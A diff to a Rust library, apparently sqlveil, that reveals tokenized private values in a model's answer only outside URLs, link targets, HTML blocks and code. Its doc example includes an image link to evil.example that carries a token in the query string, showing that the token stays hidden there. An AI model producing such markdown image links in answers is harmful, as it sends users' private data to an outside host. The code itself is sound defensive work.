@@ -156,7 +156,7 @@ struct Patterns {
 
 static PATTERNS: LazyLock<Option<Patterns>> = LazyLock::new(|| {
     Some(Patterns {
-        urlish: Regex::new(r"(?i)([a-z][a-z0-9+.\-]*://|www\.|(^|[^a-z0-9])(mailto|tel|sms|callto|javascript|vbscript|data|file|ftp|news|irc|xmpp|blob):|[a-z0-9](?:[a-z0-9\-]*[a-z0-9])?(?:\.[a-z0-9](?:[a-z0-9\-]*[a-z0-9])?)*\.[a-z]{2,}(?:[:/?#\\]|$)|@[a-z0-9\-]+\.[a-z]|^//|^\\\\)").ok()?,
+        urlish: Regex::new(r"(?i)([a-z][a-z0-9+.\-]*://|www\.|(mailto|tel|sms|callto|javascript|vbscript|data|file|ftp|news|irc|xmpp|blob):|[a-z0-9](?:[a-z0-9\-]*[a-z0-9])?(?:\.[a-z0-9](?:[a-z0-9\-]*[a-z0-9])?)*\.[a-z]{2,}(?:[:/?#\\]|$)|@[a-z0-9\-]+\.[a-z]|^//|^\\\\)").ok()?,
         bare_url: Regex::new(r"(?i)(?:\b[a-z][a-z0-9+.\-]*://|\bwww\.|\b(?:mailto|tel|sms|callto|javascript|vbscript|data|file|ftp|news|irc|xmpp|blob):|\b[a-z0-9\-]+(?:\.[a-z0-9\-]+)*\.[a-z]{2,}[/?#:\\])[^\s<>]*").ok()?,
         ref_def: Regex::new(r"(?m)^ {0,3}\[[^\]\^\n][^\]\n]*\]:[^\n]*").ok()?,
     })
@@ -169,6 +169,7 @@ fn unsafe_regions(p: &Patterns, text: &str, tokens: &[Range<usize>]) -> Vec<Rang
     let fences = fences(text);
     out.extend(fences.iter().cloned());
     out.extend(code_spans(text, &fences));
+    out.extend(indented_code(text, &fences));
     // Link and image targets: `](` to the matching `)`.
     let mut i = 0;
     while let Some(p) = find(b, i, b"](") {
@@ -180,7 +181,130 @@ fn unsafe_regions(p: &Patterns, text: &str, tokens: &[Range<usize>]) -> Vec<Rang
     for m in p.ref_def.find_iter(text) {
         out.push(m.range());
     }
-    out.extend(html_tags(text, tokens));
+    let tags = html_tags(text, tokens);
+    out.extend(html_blocks(text, tokens, &tags));
+    out.extend(tags);
+    out
+}
+
+/// Tags that start an HTML block wherever they begin a line (CommonMark's
+/// block kinds 1 and 6).
+const BLOCK_TAGS: [&str; 66] = [
+    "script",
+    "pre",
+    "style",
+    "textarea",
+    "address",
+    "article",
+    "aside",
+    "base",
+    "basefont",
+    "blockquote",
+    "body",
+    "caption",
+    "center",
+    "col",
+    "colgroup",
+    "dd",
+    "details",
+    "dialog",
+    "dir",
+    "div",
+    "dl",
+    "dt",
+    "fieldset",
+    "figcaption",
+    "figure",
+    "footer",
+    "form",
+    "frame",
+    "frameset",
+    "h1",
+    "h2",
+    "h3",
+    "h4",
+    "h5",
+    "h6",
+    "head",
+    "header",
+    "hr",
+    "html",
+    "iframe",
+    "legend",
+    "li",
+    "link",
+    "main",
+    "menu",
+    "menuitem",
+    "nav",
+    "noframes",
+    "ol",
+    "optgroup",
+    "option",
+    "p",
+    "param",
+    "search",
+    "section",
+    "summary",
+    "table",
+    "tbody",
+    "td",
+    "tfoot",
+    "th",
+    "thead",
+    "title",
+    "tr",
+    "track",
+    "ul",
+];
+
+/// HTML blocks, to the next blank line: a line that starts (up to three
+/// spaces in) with a comment, `<!`, `<?`, a block tag, or that is one whole
+/// tag and nothing else. Markdown is not read there and a renderer passes
+/// the block on as HTML.
+fn html_blocks(text: &str, tokens: &[Range<usize>], tags: &[Range<usize>]) -> Vec<Range<usize>> {
+    let mut out = Vec::new();
+    let mut open: Option<usize> = None;
+    let mut at = 0;
+    for line in text.split_inclusive('\n') {
+        let start = at;
+        at += line.len();
+        if line.trim().is_empty() {
+            if let Some(s) = open.take() {
+                out.push(s..start);
+            }
+            continue;
+        }
+        if open.is_some() {
+            continue;
+        }
+        let trimmed = line.trim_start_matches(' ');
+        let lt = start + (line.len() - trimmed.len());
+        if line.len() - trimmed.len() > 3
+            || !trimmed.starts_with('<')
+            || tokens.iter().any(|t| t.start == lt)
+        {
+            continue;
+        }
+        let lower = trimmed.to_ascii_lowercase();
+        let name: String = lower
+            .trim_start_matches(['<', '/'])
+            .chars()
+            .take_while(|c| c.is_ascii_alphanumeric())
+            .collect();
+        let line_end = start + line.trim_end().len();
+        let whole_tag = tags.iter().any(|t| t.start == lt && t.end == line_end);
+        if lower.starts_with("<!")
+            || lower.starts_with("<?")
+            || BLOCK_TAGS.contains(&name.as_str())
+            || whole_tag
+        {
+            open = Some(start);
+        }
+    }
+    if let Some(s) = open {
+        out.push(s..text.len());
+    }
     out
 }
 
@@ -241,6 +365,52 @@ fn fences(text: &str) -> Vec<Range<usize>> {
     }
     if let Some((start, _, _)) = open {
         out.push(start..text.len());
+    }
+    out
+}
+
+/// Indented code blocks: lines indented by four columns or more (a tab
+/// counts to the next multiple of four) that do not continue a paragraph:
+/// at the start, after a blank line, a heading, a thematic break, an empty
+/// quote marker or a fence, or after another such line. (An indented line
+/// of a nested list after a blank line is taken for code too: a value there
+/// stays a token.)
+fn indented_code(text: &str, fences: &[Range<usize>]) -> Vec<Range<usize>> {
+    let mut out = Vec::new();
+    // Whether the line before leaves no paragraph open.
+    let (mut open_ok, mut in_code) = (true, false);
+    let mut at = 0;
+    for line in text.split_inclusive('\n') {
+        let start = at;
+        at += line.len();
+        if fences.iter().any(|f| f.contains(&start)) {
+            open_ok = true;
+            in_code = false;
+            continue;
+        }
+        let t = line.trim();
+        if t.is_empty() {
+            open_ok = true;
+            continue;
+        }
+        let mut cols = 0;
+        for c in line.chars() {
+            match c {
+                ' ' => cols += 1,
+                '\t' => cols += 4 - cols % 4,
+                _ => break,
+            }
+        }
+        in_code = cols >= 4 && (open_ok || in_code);
+        if in_code {
+            out.push(start..at);
+            continue;
+        }
+        let bare = t.trim_start_matches('>').trim();
+        let rule = t.len() >= 3
+            && t.chars().all(|c| matches!(c, '-' | '*' | '_' | ' '))
+            && t.chars().filter(|c| !c.is_whitespace()).count() >= 3;
+        open_ok = (t.starts_with('>') && bare.is_empty()) || t.starts_with('#') || rule;
     }
     out
 }
@@ -320,6 +490,19 @@ fn html_tags(text: &str, tokens: &[Range<usize>]) -> Vec<Range<usize>> {
             continue;
         }
         let start = i;
+        // Comments, processing instructions and CDATA end at their own
+        // closing marks, whatever `>` they hold.
+        let closer = [("<!--", "-->"), ("<![CDATA[", "]]>"), ("<?", "?>")]
+            .into_iter()
+            .find(|(open, _)| lower[start..].starts_with(open));
+        if let Some((open, close)) = closer {
+            let end = lower[start + open.len()..]
+                .find(close)
+                .map_or(b.len(), |k| start + open.len() + k + close.len());
+            out.push(start..end);
+            i = end;
+            continue;
+        }
         let mut j = i + 1;
         let mut end = b.len();
         while j < b.len() {
@@ -365,30 +548,54 @@ fn overlaps(a: &Range<usize>, b: &Range<usize>) -> bool {
     a.start < b.end && b.start < a.end
 }
 
-/// The run of non-blank text around `span`, with `span` itself replaced by
-/// a neutral letter and the unsafe regions left out (so that the text of a
-/// link is not taken for part of its target): does it read as a URL?
-fn in_url(p: &Patterns, text: &str, span: &Range<usize>, regions: &[Range<usize>]) -> bool {
-    let start = text[..span.start]
+/// The text of every complete inline link or image (`[text](target)`):
+/// its text is a node of its own, which no autolinker extends.
+fn link_texts(text: &str) -> Vec<Range<usize>> {
+    let b = text.as_bytes();
+    let mut out = Vec::new();
+    let mut i = 0;
+    while let Some(p) = find(b, i, b"](") {
+        i = p + 2;
+        let end = target_end(b, p + 2);
+        if end == 0 || b.get(end - 1) != Some(&b')') {
+            continue;
+        }
+        let mut depth = 0usize;
+        for k in (0..p).rev() {
+            match b[k] {
+                b']' => depth += 1,
+                b'[' if depth == 0 => {
+                    out.push(k + 1..p);
+                    break;
+                }
+                b'[' => depth -= 1,
+                _ => {}
+            }
+        }
+    }
+    out
+}
+
+/// The run of non-blank text around `span` (or, for a value in the text of
+/// a complete link, that text), with `span` itself replaced by a neutral
+/// letter: does it read as a URL? Everything else in the run counts, markup
+/// included: a tag a renderer does not take for one is text it may link.
+fn in_url(p: &Patterns, text: &str, span: &Range<usize>, link_texts: &[Range<usize>]) -> bool {
+    let inner = link_texts
+        .iter()
+        .filter(|r| r.start <= span.start && span.end <= r.end)
+        .min_by_key(|r| r.end - r.start);
+    let (lo, hi) = inner.map_or((0, text.len()), |r| (r.start, r.end));
+    let start = text[lo..span.start]
         .char_indices()
         .rev()
         .find(|(_, c)| c.is_whitespace())
-        .map_or(0, |(i, c)| i + c.len_utf8());
-    let end = text[span.end..]
+        .map_or(lo, |(i, c)| lo + i + c.len_utf8());
+    let end = text[span.end..hi]
         .char_indices()
         .find(|(_, c)| c.is_whitespace())
-        .map_or(text.len(), |(i, _)| span.end + i);
-    let mut chunk = String::with_capacity(end - start);
-    for (i, ch) in text[start..end].char_indices() {
-        let at = start + i;
-        if span.contains(&at) {
-            if at == span.start {
-                chunk.push('X');
-            }
-        } else if !regions.iter().any(|r| r.contains(&at)) {
-            chunk.push(ch);
-        }
-    }
+        .map_or(hi, |(i, _)| span.end + i);
+    let chunk = format!("{}X{}", &text[start..span.start], &text[span.end..end]);
     p.urlish.is_match(&chunk)
 }
 
@@ -490,9 +697,53 @@ enum Piece {
     },
 }
 
-/// Reveals a model's answer for a role: see the module docs. Returns the
-/// segments and how many values were revealed.
-pub(crate) fn reveal_answer(
+/// Reveals a model's answer for a role, as [`Chat::ask`](super::Chat::ask)
+/// does: only the tokens in `allowed` and of `classes`, never inside a URL,
+/// a link or image target, a reference definition, an HTML tag or a code
+/// span; with `link_hosts`, links to other hosts are removed first (an empty
+/// list removes every link). Returns the segments and how many values were
+/// revealed.
+///
+/// # Errors
+/// A link host that is not a host name; the vault cannot be read.
+///
+/// # Example
+/// ```
+/// use std::sync::Arc;
+/// use sqlveil::chat::{reveal_answer, AnswerSegment};
+/// use sqlveil::tokens::RequestTokens;
+/// use sqlveil::{MasterKey, MemoryVault, Policy, TokenClass, Tokens};
+///
+/// let policy = Policy::from_toml_str(r#"
+///     version = 1
+///     [tables.t.columns]
+///     name = { action = "tokenize", class = "person" }
+///     [roles.support]
+///     reveal = ["person"]
+/// "#)?;
+/// let tokens = Tokens::new(&policy, MasterKey::from_bytes(&[7; 32]), Some(Arc::new(MemoryVault::new())))?;
+/// let t = tokens.issue(&TokenClass::new("person")?, "Ada Lovelace")?;
+/// let mut mine = RequestTokens::new();
+/// mine.add_text(&tokens, &t);
+/// let answer = format!("![x](https://evil.example/p.png?c={t}) It is {t}.");
+/// let (segments, n) = reveal_answer(&tokens, &answer, policy.role("support").unwrap(), &mine, None)?;
+/// assert_eq!(n, 1);
+/// assert_eq!(AnswerSegment::join(&segments), format!("![x](https://evil.example/p.png?c={t}) It is Ada Lovelace."));
+/// # Ok::<(), Box<dyn std::error::Error>>(())
+/// ```
+pub fn reveal_answer(
+    tokens: &Tokens,
+    text: &str,
+    classes: &BTreeSet<TokenClass>,
+    allowed: &RequestTokens,
+    link_hosts: Option<&[String]>,
+) -> Result<(Vec<AnswerSegment>, usize), Error> {
+    let hosts = link_hosts.map(LinkHosts::parse).transpose()?;
+    reveal(tokens, text, classes, allowed, hosts.as_ref())
+}
+
+/// [`reveal_answer`] with the hosts parsed.
+pub(crate) fn reveal(
     tokens: &Tokens,
     text: &str,
     classes: &BTreeSet<TokenClass>,
@@ -559,6 +810,7 @@ pub(crate) fn reveal_answer(
             break;
         }
         let regions = unsafe_regions(pat, &out, &token_ranges);
+        let texts = link_texts(&out);
         let link_ranges: Vec<Range<usize>> = match hosts {
             Some(h) => links(pat, &out, &token_ranges)
                 .into_iter()
@@ -571,7 +823,7 @@ pub(crate) fn reveal_answer(
         for (k, span) in &spans {
             if regions.iter().any(|r| overlaps(r, span))
                 || link_ranges.iter().any(|r| overlaps(r, span))
-                || in_url(pat, &out, span, &regions)
+                || in_url(pat, &out, span, &texts)
             {
                 hide.push(*k);
             }
@@ -671,7 +923,10 @@ mod tests {
             .match_indices("TOKEN")
             .map(|(i, s)| i..i + s.len())
             .collect();
-        let got: Vec<bool> = spans.iter().map(|s| in_url(pat(), t, s, &[])).collect();
+        let got: Vec<bool> = spans
+            .iter()
+            .map(|s| in_url(pat(), t, s, &link_texts(t)))
+            .collect();
         assert_eq!(got, [true, false, true, false, true, true]);
     }
 
